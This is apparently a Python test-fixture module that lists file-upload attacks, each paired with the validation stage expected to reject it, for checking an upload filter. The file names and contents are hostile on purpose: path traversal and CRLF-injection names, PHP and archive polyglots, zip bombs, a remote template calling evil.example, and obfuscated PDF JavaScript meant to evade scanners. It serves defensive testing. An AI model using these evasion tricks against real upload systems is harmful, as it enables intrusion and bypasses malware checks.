"""The attacks of OWASP's list of file uploads, each as a file; docs/security.md shows the same table."""

from __future__ import annotations

from dataclasses import dataclass

from plumbing.materials.checker import EICAR
from tests.fakes.files import (
    RELATION,
    SCRIPT,
    archive,
    compound,
    jpeg,
    object_stream,
    office,
    pdf,
    picture_around,
    png,
)

EXE = b"MZ\x90\x00" + b"\0" * 60
BOMB = b"0" * (20 << 20)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ANNOUNCEMENT, CHECKER = "announcement", "checker"


@dataclass(frozen=True)
class Attack:
    """``by`` says who refuses it: the announcement (before a byte is sent) or the checker, and as what."""

    what: str
    file_name: str
    content: bytes
    by: str
    found: str
    kind: str = "site_picture"
    size: int | None = None
    """The size announced, where it is not the true one."""
    media_type: str | None = None


def attacks() -> list[Attack]:
    """Return every attack with who refuses it and as what."""
    form = {"kind": "application_form"}
    return [
        *_hidden_in_pdf(),
        *_hidden_in_office(),
        Attack(
            "polyglot: archive in a JPEG's comment, its directory behind the picture",
            "a.jpg",
            picture_around(archive({"a": "b"})),
            CHECKER,
            "trailing_data",
        ),
        Attack("extension not on the list: a program", "setup.exe", EXE, ANNOUNCEMENT, "type"),
        Attack("extension not on the list: a page", "page.html", b"<script>", ANNOUNCEMENT, "type"),
        Attack("SVG with a script", "logo.svg", SVG, ANNOUNCEMENT, "type"),
        Attack("SVG under a picture's name", "logo.png", SVG, CHECKER, "type_mismatch"),
        Attack("double extension, the last one counts", "现场.jpg.php", jpeg(), ANNOUNCEMENT, "type"),
        Attack("double extension before a true one", "现场.php.jpg", EXE, CHECKER, "type_mismatch"),
        Attack("no extension", "README", b"x", ANNOUNCEMENT, "type"),
        Attack("extension in odd case", "现场.JPG", EXE, CHECKER, "type_mismatch"),
        Attack("trailing dot", "shell.php.", b"x", ANNOUNCEMENT, "type"),
        Attack("path in the name", "../../etc/cron.d/x.png", png(), ANNOUNCEMENT, "path"),
        Attack("Windows path in the name", "C:\\x\\a.png", png(), ANNOUNCEMENT, "path"),
        Attack("hidden file", ".htaccess.png", png(), ANNOUNCEMENT, "path"),
        Attack("name read backwards", "现场\u202egnp.exe.png", png(), ANNOUNCEMENT, "path"),
        Attack("line break in the name (header injection)", "a\r\nX: y.png", png(), ANNOUNCEMENT, "path"),
        Attack("media type of another kind", "a.png", png(), ANNOUNCEMENT, "type", media_type="text/html"),
        Attack("wrong magic: program as picture", "a.png", EXE, CHECKER, "type_mismatch"),
        Attack("wrong magic: picture as another", "a.jpg", png(), CHECKER, "type_mismatch"),
        Attack(
            "polyglot: picture and archive", "a.png", png(tail=archive({"a": "b"})), CHECKER, "trailing_data"
        ),
        Attack("polyglot: picture and PHP", "a.jpg", jpeg(tail=b"<?php x();"), CHECKER, "trailing_data"),
        Attack(
            "polyglot: PDF and archive",
            "a.pdf",
            pdf(tail=archive({"a": "b"})),
            CHECKER,
            "trailing_data",
            **form,
        ),
        Attack(
            "polyglot: archive before DOCX",
            "a.docx",
            archive({"x": "1"}) + office(),
            CHECKER,
            "trailing_data",
            **form,
        ),
        Attack("empty", "a.png", b"", CHECKER, "empty"),
        Attack("huge", "a.png", png(), ANNOUNCEMENT, "too_large", size=10**12),
        Attack("not the size announced", "a.png", png(), CHECKER, "size_differs", size=len(png()) + 1),
        Attack("pixel flood", "a.png", png(60000, 60000), CHECKER, "image_too_large"),
        Attack(
            "zip bomb in DOCX", "a.docx", office(**{"word/a.xml": BOMB}), CHECKER, "unpacks_too_large", **form
        ),
        Attack(
            "zip bomb in XLSX",
            "a.xlsx",
            office("xlsx", **{"xl/a.xml": BOMB}),
            CHECKER,
            "unpacks_too_large",
            kind="attachment",
        ),
        Attack(
            "bomb in a PDF's objects",
            "a.pdf",
            pdf(object_stream(b"0" * (80 << 20))),
            CHECKER,
            "unpacks_too_large",
            **form,
        ),
        Attack(
            "path inside a DOCX", "a.docx", office(**{"../../etc/x": b"x"}), CHECKER, "unsafe_names", **form
        ),
        Attack(
            "macros in DOCX", "a.docx", office(**{"word/vbaProject.bin": b"x"}), CHECKER, "macros", **form
        ),
        Attack("macro document by its own name", "a.docm", office(), ANNOUNCEMENT, "type", **form),
        Attack(
            "remote template in DOCX",
            "a.docx",
            office(
                **{
                    "word/_rels/s.xml.rels": RELATION.format(
                        kind="attachedTemplate", target="http://evil.example/t.dotm"
                    )
                }
            ),
            CHECKER,
            "external_reference",
            **form,
        ),
        Attack(
            "XML entities in DOCX (XXE)",
            "a.docx",
            office(**{"word/document.xml": "<!DOCTYPE a []>"}),
            CHECKER,
            "active_content",
            **form,
        ),
        Attack(
            "program inside a DOCX",
            "a.docx",
            office(**{"word/embeddings/a.bin": EXE}),
            CHECKER,
            "embedded_file",
            **form,
        ),
        Attack(
            "JavaScript in a PDF",
            "a.pdf",
            pdf(b"<< /S /JavaScript /JS (x) >>"),
            CHECKER,
            "active_content",
            **form,
        ),
        Attack(
            "file embedded in a PDF",
            "a.pdf",
            pdf(b"<< /Type /EmbeddedFile >>"),
            CHECKER,
            "embedded_file",
            **form,
        ),
        Attack("EICAR in a PDF", "a.pdf", pdf(EICAR), CHECKER, "virus", **form),
        Attack("EICAR packed in a DOCX", "a.docx", office(**{"word/n.xml": EICAR}), CHECKER, "virus", **form),
    ]


def _hidden_in_pdf() -> list[Attack]:
    """JavaScript that a viewer runs and that a search of the file for the word does not meet."""

    def hidden(what: str, body: bytes, found: str = "active_content") -> Attack:
        return Attack(what, "a.pdf", pdf(body), CHECKER, found, kind="application_form")

    usual = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    return [
        hidden("JavaScript in packed objects", object_stream(SCRIPT)),
        hidden("the same, after a string that seems to begin an object",
               object_stream(SCRIPT, usual + b" /X (obj)")),
        hidden("the same, under 70 KB of padding", object_stream(SCRIPT, usual + b" " * 70_000)),
        hidden("the same, its type torn by a comment",
               object_stream(SCRIPT, usual.replace(b"/Type ", b"/Type%x\n"))),
        hidden("the same, without a type", object_stream(SCRIPT, usual.replace(b"/Type /ObjStm", b""))),
        hidden("the same, its keys spelled with #xx",
               object_stream(SCRIPT, b"/N 1 /F#69rst 4 /F#69lter /Flate#44ecode")),
        hidden("the same, with a word for its end inside",
               object_stream(SCRIPT + b"endstream" * 9, usual, level=0)),
        hidden("packed objects behind a predictor", object_stream(
            SCRIPT, usual + b" /DecodeParms << /Predictor 12 /Columns 4 >>"), "not_checkable"),
        hidden("packed objects with a filter named elsewhere",
               object_stream(SCRIPT, b"/Type /ObjStm /N 1 /First 4 /Filter 5 0 R"), "not_checkable"),
        hidden("a form that brings its own program (XFA)", b"<< /AcroForm << /XFA [(a) 5 0 R] >> >>"),
        hidden("a script started by a rendition", b"<< /S /Rendition /JS (app.alert(1)) >>"),
    ]  # fmt: skip


def _hidden_in_office() -> list[Attack]:
    """What Word does on opening and what a search of the text for the usual spelling does not meet."""

    def hidden(what: str, found: str, **parts: bytes | str) -> Attack:
        return Attack(what, "a.docx", office(**parts), CHECKER, found, kind="application_form")

    template = RELATION.format(kind="attachedTemplate", target="http://evil.example/t.dotm")
    macro = '<Types><Override ContentType="application/vnd.ms-word.document.macro{}nabled.main+xml"/></Types>'
    utf16 = '<?xml version="1.0" encoding="UTF-16"?>'
    return [
        hidden("remote template with another type in its address", "external_reference", **{
            "word/_rels/settings.xml.rels": template.replace("t.dotm", "t.dotm?Type='/hyperlink'")}),
        hidden("remote template with another type beside its own", "external_reference", **{
            "word/_rels/settings.xml.rels": template.replace("Id=", "xType='/hyperlink' Id=")}),
        hidden("remote template, its part named in capitals", "external_reference", **{
            "word/_rels/settings.xml.RELS": template}),
        hidden("remote template, its part named with %xx", "external_reference", **{
            "word/_rels/settings.xml.%72els": template}),
        hidden("remote template in UTF-16", "external_reference", **{
            "word/_rels/settings.xml.rels": (utf16 + template).encode("utf-16")}),
        hidden("program put into DOCX as an OLE object", "embedded_file", **{
            "word/embeddings/oleObject1.bin": compound("\x01Ole10Native")}),
        hidden("package put into DOCX as an OLE object", "embedded_file", **{
            "word/embeddings/oleObject1.bin": compound("Package")}),
        hidden("macro type spelled with entities", "macros", **{
            "[Content_Types].xml": macro.format("&#69;")}),
        hidden("macro type in UTF-16", "macros", **{
            "[Content_Types].xml": (utf16 + macro.format("E")).encode("utf-16")}),
        hidden("part cut in pieces", "unsafe_names", **{
            "word/_rels/settings.xml.rels/[0].piece": template}),
    ]  # fmt: skip


def write_uploads() -> str:
    """Return the table of attacks as Markdown."""
    lines = ["| attack | refused by | as |", "| --- | --- | --- |"]
    lines += [f"| {attack.what} | {attack.by} | `{attack.found}` |" for attack in attacks()]
    return "\n".join(lines) + "\n"
